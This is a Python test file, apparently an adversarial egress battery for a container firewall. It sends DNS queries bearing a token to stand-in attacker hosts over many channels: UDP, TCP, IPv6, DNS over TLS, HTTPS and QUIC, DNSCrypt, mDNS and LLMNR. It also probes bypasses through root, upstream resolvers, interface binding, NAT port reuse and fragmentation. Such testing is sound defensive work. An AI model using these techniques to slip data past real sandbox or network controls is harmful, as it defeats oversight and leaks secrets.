"""DNS to servers that the attacker chooses."""
import socket
import ssl
import struct
import time

from common import *

AWF = "github/gh-aw-firewall, adversarial egress battery"
NAME = f"{TOKEN}.evil.test"


@row("resolver.udp", f"{AWF}; anthropics/claude-code#36907", "dns at=evil over=udp")
def _():
    """The attacker's server over UDP."""
    udp(EVIL, 53, question(NAME))


@row("resolver.udp6", AWF, "dns at=evil over=udp")
def _():
    """The attacker's server over UDP and IPv6."""
    udp(EVIL6, 53, question(NAME))


@row("resolver.tcp", AWF, "dns at=evil over=tcp")
def _():
    """The attacker's server over TCP."""
    tell(EVIL, 53, framed(question(NAME)))


@row("resolver.tcp6", AWF, "dns at=evil over=tcp")
def _():
    """The attacker's server over TCP and IPv6."""
    tell(EVIL6, 53, framed(question(NAME)))


@row("resolver.upstream", "bypass of the filter by asking its upstream", "dns at=dns over=udp")
def _():
    """The resolver behind the container's own."""
    udp("203.0.113.53", 53, question(NAME))


@row("resolver.upstream_tcp", "bypass of the filter by asking its upstream", "dns at=dns over=tcp")
def _():
    """The resolver behind the container's own, over TCP."""
    tell("203.0.113.53", 53, framed(question(NAME)))


@row("resolver.root_any", "Docker's resolver asks as uid 0, so uid 0 is let through", "dns at=evil", user="root")
def _():
    """uid 0 asks the attacker's server."""
    udp(EVIL, 53, question(NAME))


@row("resolver.root_upstream", "Docker's resolver asks as uid 0, so uid 0 is let through", "dns at=dns", user="root",
     open="Docker's resolver asks its upstream as uid 0 without a mark, and nothing tells others of uid 0 from it")
def _():
    """uid 0 asks the resolver behind the container's own for the attacker's name."""
    udp("203.0.113.53", 53, question(NAME))


@row("resolver.dot", f"RFC 7858; {AWF}", "evil:853 tls")
def _():
    """DNS over TLS by address."""
    tls(EVIL, 853, "dns.evil.test", framed(question(NAME)), alpn=["dot"])


@row("resolver.dot_listed_host", "RFC 7858", "api:853")
def _():
    """DNS over TLS at a listed host, on a port that is not listed."""
    tls(API, 853, "api.example", framed(question(NAME)))


def doh(address, sni):
    body = question(NAME)
    head = f"POST /dns-query HTTP/1.1\r\nHost: {sni or address}\r\nContent-Type: application/dns-message\r\n"
    tls(address, 443, sni, head.encode() + f"Content-Length: {len(body)}\r\n\r\n".encode() + body)


@row("resolver.doh", f"RFC 8484; {AWF} (DoH)", "evil:443 tls dns-query")
def _():
    """DNS over HTTPS by address, with no name in the hello."""
    doh(EVIL, None)


@row("resolver.doh_named", f"RFC 8484; {AWF} (DoH)", "evil:443 tls dns-query")
def _():
    """DNS over HTTPS with a public resolver's name in the hello."""
    doh(EVIL, "dns.resolver.test")


@row("resolver.doq", "RFC 9250", "wire dport=853")
def _():
    """DNS over QUIC."""
    udp(EVIL, 853, b"\xc3\0\0\0\1\x08" + T + b"\0" * 1200)


@row("resolver.dnscrypt", "dnscrypt.info, protocol version 2", "wire dport=443")
def _():
    """DNSCrypt on UDP port 443."""
    udp(EVIL, 443, b"r6fnvWj8" + T + b"\0" * 256)


@row("resolver.other_port", "DNS on ports that no rule names", "wire dport=5300")
def _():
    """DNS over UDP on another port."""
    udp(EVIL, 5300, question(NAME))


@row("resolver.mdns", "RFC 6762", "wire dst=224.0.0.251 dport=5353")
def _():
    """A multicast question, which every host on the bridge hears."""
    udp("224.0.0.251", 5353, question(f"{TOKEN}.local"))


@row("resolver.llmnr", "RFC 4795; Responder (github.com/lgandx/Responder)", "wire dst=ff02::1:3 dport=5355")
def _():
    """A link-local multicast question over IPv6."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        for _ in range(2):
            sock.sendto(question(TOKEN), ("ff02::1:3", 5355, 0, socket.if_nametoindex("eth0")))


@row("resolver.device", "SO_BINDTODEVICE since Linux 5.7 for every user", "dns at=evil")
def _():
    """A socket that is bound to the interface, so that what is redirected to loopback leaves by it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        for _ in range(2):
            sock.sendto(question(NAME), (EVIL, 53))
            time.sleep(0.05)


@row("resolver.reused_port", "NAT decides by a flow's first packet", "dns at=evil")
def _():
    """Questions from one port to many servers, after one that was answered."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("0.0.0.0", PORT))
        for target in (RESOLVER, (EVIL, 53), ("203.0.113.53", 53), (EVIL, 53)):
            try:
                sock.sendto(question(NAME), target)
            except OSError:
                pass
            time.sleep(0.1)


@row("resolver.fragments", "only a datagram's first fragment has ports", "wire proto=17 dst=203.0.113.66")
def _():
    """A question in fragments; the data is in the last one."""
    udp(EVIL, 53, question(NAME) + b"x" * 5000 + T)
